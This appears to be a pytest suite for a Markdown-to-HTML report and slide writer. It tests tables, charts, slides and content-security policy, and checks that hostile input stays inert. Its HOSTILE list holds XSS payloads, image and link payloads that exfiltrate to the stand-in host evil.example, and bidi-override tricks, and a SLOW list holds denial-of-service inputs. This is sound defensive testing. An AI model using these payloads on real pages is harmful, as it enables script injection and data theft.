"""Pages of Markdown: what they become, and that nothing in their text acts (exfil_unfurl, web_xss, inj_sources)."""

import base64
import hashlib
import re
from contextlib import suppress
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from documents.document import Unreadable
from documents.writing import NotWritten, policy_of, with_bar, write_markdown, write_page
from documents.writing_html import page
from documents.writing_markdown import plain

ROOT = Path(__file__).parents[2]
CHART = '```chart\n{"kind":"bar","title":"Open","labels":["A","B"],"series":{"x":[1,2]}}\n```\n'
FRAME = {"html", "head", "meta", "title", "link", "style", "body", "main", "header", "nav", "section", "script"}
TEXT = {"h1", "h2", "h3", "h4", "p", "ul", "ol", "li", "blockquote", "pre", "code", "hr", "br", "strong", "em", "s"}
TABLE = {"div", "span", "table", "thead", "tbody", "tr", "th", "td", "a"}
FIGURE = {"figure", "figcaption", "details", "summary", "svg", "desc", "text", "line", "rect", "circle", "path"}
ELEMENTS = FRAME | TEXT | TABLE | FIGURE | {"polyline"}
HOSTILE = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "![x](https://evil.example/?d=secret)",
    "![x][r]\n\n[r]: https://evil.example/?d=secret",
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "<https://evil.example/?d=secret>",
    "<style>body{background:url(https://evil.example)}</style>",
    '</main></body></style><base href="https://evil.example">',
    "&lt;script&gt; &#x3c;script&#x3e; &#x202e;",
    "# <a href=https://evil.example>x</a>",
    '| <b onclick="x"> | [x](https://evil.example) |\n|:-:|-:|\n| `</code><script>` | 1 |',
    '```"><script>alert(1)</script>\n</code></pre><script>\n```',
    "\u202egnp.exe\u200b \u2066x\u2069",
    '<!-- bar --> <hr id="c1">',
    "> " * 60 + "deep",
    "*" * 400 + "x" + "*" * 400,
]


class Read(HTMLParser):
    """The elements and the attributes of a page."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.words: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.words.append(data)


def written(body: str, *, form: str = "report", title: str = "Orders") -> str:
    return page(body.encode(errors="replace"), {"title": title, "form": form, "by": ""}).decode()


def inside(html: str) -> str:
    return html.partition("<main")[2].partition(">")[2].rpartition("</main>")[0]


def said(body: str) -> str:
    """What a body becomes, without the frame and the title."""
    return inside(written(body)).partition("</header>")[2].strip()


def check(html: str) -> None:
    """Nothing of a page leads or reaches out of it."""
    read = Read(html)
    assert set(read.elements) <= ELEMENTS
    for tag, name, value in read.attributes:
        assert not name.startswith("on"), (tag, name)
        assert name not in {"style", "src", "srcset", "action", "formaction", "background", "xlink:href"}
        if name == "href":
            assert (tag, value) == ("link", "data:,") or re.fullmatch(r"#[psc]\d+", value), value
        elif name not in {"content", "class", "aria-label"}:
            assert not re.search(r"\w+:", value), (tag, name, value)
    assert read.elements.count("style") == 1
    assert read.elements.count("script") == ('<body class="slides">' in html)
    assert not re.search("[\u200b-\u200f\u202a-\u202e\u2066-\u2069]", html)


# What a text becomes.


def test_a_report_has_its_title_its_line_and_its_text() -> None:
    html = page(b"Two risks **remain**.", {"title": "Mobile", "form": "report", "by": "Made for Ren"}).decode()
    assert inside(html) == (
        '<header class="head"><h1>Mobile</h1><p class="by">Made for Ren</p></header>\n'
        "<p>Two risks <strong>remain</strong>.</p>"
    )


def test_headings_begin_below_the_title_whatever_the_text_begins_with() -> None:
    assert said("## A\n\n#### B") == '<h2 id="p1">A</h2>\n<h4 id="p2">B</h4>'
    assert said("# A\n\n## B") == '<h2 id="p1">A</h2>\n<h3 id="p2">B</h3>'


def test_a_title_that_the_text_repeats_stands_once() -> None:
    assert written("# orders\n\nText").count("orders") == 0
    assert "Orders</h1>" in written("# orders\n\nText")


def test_lists_quotes_and_code() -> None:
    assert said("3. a\n   - b\n4. c") == '<ol start="3"><li>a <ul><li>b </li></ul></li><li>c </li></ol>'
    assert said("> a\n> ## b") == "<blockquote><p>a</p><p><strong>b</strong></p></blockquote>"
    assert said("```sql\nSELECT '<b>'\n```") == "<pre tabindex=\"0\"><code>SELECT '&lt;b&gt;'\n</code></pre>"


def test_numbers_stand_at_the_right_and_a_wide_table_scrolls_by_keyboard_too() -> None:
    html = said("| Month | Orders | Share |\n|---|---|---|\n| Jan | 1,204 | 35.3 % |\n| Feb | – | n/a |")
    assert html.startswith('<div class="scroll" role="region" tabindex="0" aria-label="Table"><table>')
    assert '<th>Month</th><th class="num">Orders</th><th class="num">Share</th>' in html
    assert '<td>Jan</td><td class="num">1,204</td>' in html


def test_days_and_names_are_no_numbers() -> None:
    html = said("| Day | Ticket |\n|---|---|\n| 2026-11-22 | TRAIL-140 |")
    assert "num" not in html


def test_a_table_that_is_too_long_says_how_much_is_missing() -> None:
    columns = 30
    row = "|" + " 1 |" * columns
    html = said("\n".join([row, "|" + "-|" * columns, *[row] * 500]))
    assert html.count("<tr>") == 401
    assert "100 more rows and 6 more columns not shown here." in html


def test_a_chart_is_drawn_twice_and_stands_as_a_table_too() -> None:
    html = said(CHART)
    assert html.count("<svg") == 2
    assert "<figcaption>Open</figcaption>" in html
    assert "<details><summary>Show as table</summary>" in html
    assert '<td>B</td><td class="num">2</td>' in html


def test_a_chart_that_cannot_be_drawn_says_which_and_why() -> None:
    with pytest.raises(Unreadable, match=r"Chart 2: 'x' has 1 values for 2 labels"):
        written(CHART + CHART.replace("[1,2]", "[1]"))


def test_a_long_report_begins_with_its_contents() -> None:
    body = "\n\n".join(f"## Part {number}\n\n{'word ' * 200}" for number in range(4))
    html = written(body)
    assert '<li><a href="#p3">Part 1</a></li>' in html
    assert '<h2 id="p3">Part 1</h2>' in html
    assert "contents" not in inside(written("## A\n\n## B\n\n## C\n\n## D"))


def test_an_address_is_written_out_and_leads_nowhere() -> None:
    """exfil_unfurl"""
    address = '<span class="address">(https://evil.example/?d=1)</span>'
    assert said("[the ticket](https://evil.example/?d=1)") == f"<p>the ticket {address}</p>"
    assert said("<https://evil.example/?d=1>") == "<p>https://evil.example/?d=1</p>"
    assert said("[priya@tamarack.example](mailto:priya@tamarack.example)") == "<p>priya@tamarack.example</p>"
    assert said("![chart](https://evil.example/?d=1)") == f"<p>!chart {address}</p>"


def test_what_is_invisible_is_written_out() -> None:
    assert said("a\u202eb &#x200b;") == "<p>a⟨U+202E⟩b ⟨U+200B⟩</p>"
    assert "<h1>⟨U+2066⟩x</h1>" in written("y", title="\u2066x")


# Slides.


def test_a_slide_begins_at_each_large_heading_and_at_each_rule() -> None:
    html = written("Intro\n\n## One\n\n- a\n\n---\n\nTwo\n\n### small\n\n---\n\n## Three", form="slides")
    slides = re.findall(r'<section class="slide" id="(s\d)".*?<div class="on">(.*?)</div><nav', html, re.DOTALL)
    assert [name for name, _ in slides] == ["s1", "s2", "s3", "s4"]
    assert slides[0][1].startswith("<h1>Orders</h1><p>Intro</p>")
    assert slides[1][1].startswith('<h2 id="p2">One</h2>')
    assert "Two" in slides[2][1]
    assert "small" in slides[2][1]


def test_slides_are_turned_by_links() -> None:
    html = written("## One\n\n## Two", form="slides")
    links = re.findall(r'<a href="#(s\d)">([^<]+)</a>', html)
    assert links == [("s2", "Next"), ("s1", "Back"), ("s3", "Next"), ("s2", "Back"), ("s1", "To the start")]
    assert 'aria-label="Slide 2 of 3"' in html


def test_charts_stand_on_their_own_slides() -> None:
    html = written(f"## One\n\n{CHART}\n## Two\n\n{CHART.replace('Open', 'Closed')}", form="slides")
    one, two = html.split('id="s3"')
    assert "<figcaption>Open" in one
    assert "<figcaption>Closed" not in one
    assert "<figcaption>Closed" in two


# Nothing acts.


@pytest.mark.parametrize("form", ["report", "slides"])
@pytest.mark.parametrize("body", HOSTILE)
def test_no_hostile_text_becomes_anything_but_text(body: str, form: str) -> None:
    check(written(f"{body}\n\n{CHART}", form=form, title=body.splitlines()[0]))


MARKS = st.sampled_from(
    [
        *HOSTILE,
        "[",
        "](",
        ")",
        "<",
        ">",
        "`",
        "```",
        "|",
        "\n",
        "\n\n",
        "- ",
        "> ",
        "# ",
        "&#60;",
        "\\",
        "    ",
        "[r]: //e\n",
        "\r",
        "!",
        '"',
        CHART,
    ]
)


@settings(max_examples=100, deadline=None)
@given(parts=st.lists(st.one_of(MARKS, st.text(max_size=12)), max_size=25), form=st.sampled_from(["report", "slides"]))
def test_whatever_stands_in_a_text_no_element_or_address_comes_of_it(parts: list[str], form: str) -> None:
    """web_xss, exfil_fetch"""
    body = "".join(parts)
    with suppress(Unreadable):  # a chart with something else in its fence
        check(written(body, form=form, title=body[:40]))


@settings(max_examples=100, deadline=None)
@given(parts=st.lists(st.one_of(MARKS, st.text(max_size=12)), max_size=25))
def test_markdown_that_is_handed_on_fetches_nothing_and_leads_nowhere(parts: list[str]) -> None:
    made = plain("".join(parts).encode(errors="replace"), {"title": "t"}).decode()
    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(made)
    elements = Read(html).elements
    assert not {"a", "img", "script", "style", "iframe", "base", "b", "link", "meta"} & set(elements), made


def test_markdown_that_is_handed_on_stays_readable() -> None:
    made = plain(b"## A\n\n- [x] done, see [B](https://e.example)\n\n```py\na[0](1)\n```\n\n1 < 2", {"title": "T"})
    assert made.decode() == (
        "# T\n\n## A\n\n- [x] done, see [B\\](https://e.example)\n\n```py\na[0](1)\n```\n\n1 < 2\n"
    )


def tokens(css: str) -> set[str]:
    return set(re.findall(r"(--[a-z0-9-]+: [^;{}]+);", css))


def test_the_colours_are_those_of_our_pages() -> None:
    ours, used = ((ROOT / path).read_text() for path in ("bot/web/static/pinyon.css", "documents/writing.css"))
    assert tokens(used.partition("@media print")[0]) <= tokens(ours)
    for hex in re.findall(r"'([0-9a-f]{6})'", (ROOT / "documents/pinyon.mplstyle").read_text()):
        assert f"#{hex}" in ours


@pytest.mark.parametrize("form", ["report", "slides"])
def test_the_policy_names_the_page_s_own_style_and_script_by_their_hashes(form: str) -> None:
    html = written("x", form=form)
    for tag in ("style", "script"):
        for held in re.findall(rf"<{tag}>(.*?)</{tag}>", html, re.DOTALL):
            digest = base64.b64encode(hashlib.sha256(held.encode()).digest()).decode()
            assert f"{tag}-src 'sha256-{digest}'" in policy_of(html)
    assert "unsafe" not in policy_of(html)
    assert policy_of(html).startswith("default-src 'none';")
    assert ("allow-scripts" in policy_of(html)) == (form == "slides")


def test_a_page_that_names_no_policy_may_do_nothing() -> None:
    assert policy_of("<html>") == "default-src 'none'; frame-ancestors 'none'; sandbox"


def test_a_line_about_the_page_is_put_where_the_text_cannot_be() -> None:
    html = with_bar(written("<!-- bar -->"), "Only <you>", link="About", to="/d/x/about")
    assert '<body class="report">\n<nav class="bar"' in html
    assert '<span>Only &lt;you&gt;</span><a href="/d/x/about">About</a>' in html
    assert html.count("About this page") == 1


# In the confined process.


SLOW = (
    "[" * 50_000,
    "*a_ " * 20_000,
    "> " * 50_000,
    "| a " * 20_000 + "|\n" + "|-" * 20_000 + "|\n" + "| 1 " * 20_000,
    "![](" * 20_000,
)
"""Texts that may cost a reader of Markdown more than they look."""


async def outcome(body: str) -> str:
    try:
        return await write_page("Slow", body)
    except NotWritten as error:
        return str(error)


@pytest.mark.parametrize("body", SLOW, ids=range(len(SLOW)))
async def test_a_text_made_to_be_slow_ends_in_a_page_or_in_a_sentence(body: str) -> None:
    """cost_dos"""
    assert re.match(r"<!doctype html>|[A-Z][^<>]*\.$", await outcome(body))


async def test_pages_and_markdown_are_written_in_the_confined_process() -> None:
    assert "<h1>Ünïcode</h1>" in await write_page("Ünïcode", "text")
    assert (await write_markdown("Ünïcode", "text")).startswith("# Ünïcode\n")
    with pytest.raises(NotWritten, match="Chart 1: The chart cannot be read"):
        await write_page("t", "```chart\nnothing\n```")
